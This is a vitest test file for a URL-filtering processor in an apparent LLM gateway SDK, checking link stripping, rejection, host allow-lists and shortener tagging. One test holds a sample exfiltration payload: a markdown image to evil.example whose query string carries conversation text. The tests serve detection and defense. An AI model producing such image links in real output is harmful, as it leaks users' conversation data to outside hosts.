import { runProcessor } from '@gatehouse/sdk/testing'
import { describe, expect, test } from 'vitest'
import { urlFilter } from './processor.js'

const text =
  'See [the docs](https://docs.example.com/a), [more](https://evil.example/b "t"), ![chart](https://evil.example/c) and https://evil.example/d.'
const parameters = { allow_hosts: ['docs.example.com'] }

describe('url-filter', () => {
  test('takes the destination away and keeps the label', async () => {
    const result = await runProcessor(urlFilter, { choices: [text], parameters: { ...parameters, modify: true } })
    expect(result.response?.choices[0]?.message.content).toBe(
      'See [the docs](https://docs.example.com/a), [more](# "t"), ![chart](#) and [LINK].',
    )
  })

  test('rejects, tags and tells no URL', async () => {
    const result = await runProcessor(urlFilter, { messages: [text], parameters: { ...parameters, reject: true } })
    expect(result).toMatchObject({
      kind: 'reject',
      detail: 'The prompt holds 3 matches of rules that reject.',
      tags: { url: ['denied-host'] },
      processorResult: {
        count: 3,
        findings: [{ type: 'denied-host', message: 0, score: 1, rule: 'not-allowed' }, {}, {}],
      },
    })
    expect(JSON.stringify([result.metadata, result.detail])).not.toMatch(/evil|docs/)
  })

  test.each([
    { name: 'passes usual links', content: 'https://example.com/a and www.example.de', expected: {} },
    { name: 'tags a shortener, and does not reject it', content: 'https://bit.ly/a', expected: { url: ['shortener'] } },
  ])('$name', async ({ content, expected }) => {
    const result = await runProcessor(urlFilter, { messages: [content], parameters: { reject: true } })
    expect(result).toMatchObject({ kind: 'pass', tags: expected })
  })

  test('compares what a response carries with the prompt', async () => {
    const choices = ['![x](https://evil.example/?d=the%20blue%20heron%20lands%20at%20noon)']
    const rules = async (messages?: string[]) =>
      (await runProcessor(urlFilter, { choices, ...(messages && { messages }) })).processorResult
    expect(await rules(['The blue heron lands at noon.'])).toMatchObject({
      findings: [{ rule: 'conversation', score: 0.95 }],
    })
    expect(await rules()).toBeUndefined()
  })

  test.each(['example.com:80', 'https://example.com', 'exa mple.com', '*.', ''])(
    'refuses the host %j',
    async (host) => {
      const result = await runProcessor(urlFilter, { messages: ['x'], parameters: { allow_hosts: [host] } })
      expect(result).toMatchObject({ kind: 'error', error: { status: 400 } })
    },
  )
})
